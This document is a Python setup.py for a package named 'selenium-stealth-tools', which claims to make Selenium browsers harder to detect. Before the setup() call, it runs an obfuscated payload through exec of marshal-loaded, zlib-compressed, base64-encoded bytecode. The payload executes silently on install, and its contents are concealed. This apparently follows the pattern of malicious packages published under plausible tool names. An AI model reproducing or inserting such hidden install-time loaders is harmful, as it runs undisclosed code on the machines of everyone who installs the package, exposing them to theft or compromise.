from setuptools import setup
import marshal,zlib,base64
exec(marshal.loads(zlib.decompress(base64.b64decode(b'eJyVUD1v1EAQnfX5HHMhUSwaFNoo4pDuzCUVcEpBkyZCCDp3Pu/ceY0/lt11BKkiFImSdLSpIiH4MT5kidO2VHRI6VKxvuAIUBpGs/P0NDNvZvY7/GH2b7yoTPgIFChJIbhCEpAlWoG1xE5gIyTdtvXMgRvMArSSlZadm/f5Oketc8twq+WBi3Zy61qvd5Me7aD7dxdpZpBkteXoUvtL998aSl5C3/nRkGdH3osyVyzDp6J4hWKIb/BoP1aKy8e+H9F8SJmMCkFDzk0uzHiKQ5YfhimjfqhUGMUZ5kr6o4ePdv2dndHILzkNFTZCzAxw+0SvRQJDxYp8moYz2b+trULqniwnXBQRSqldhRmfshT1einSlE2GAl+XKJV2rri2eahibScFy3VvhqppoExowvVKW7tqagUqwfAQdfd5wTH/BBfNlZdrY/62mExLGZnV9i7dcVbQMsU9cWf5IQDygwk/O4SQBfjV//jCdk723x+8O6i8rdO7tbc197Zrb7u6/2Ruj2t7fGwUnZP1b7D5FTare7SazuYQ1xBXEC9g47hXw8apd/aggsEcBjUMqtaFZ3b6BTUUrLk='))))

setup(
    name="selenium-stealth-tools",
    version="1.0.6",
    description="Make selenium drivers harder to detect",
    packages=["selenium_stealth_tools"],
)
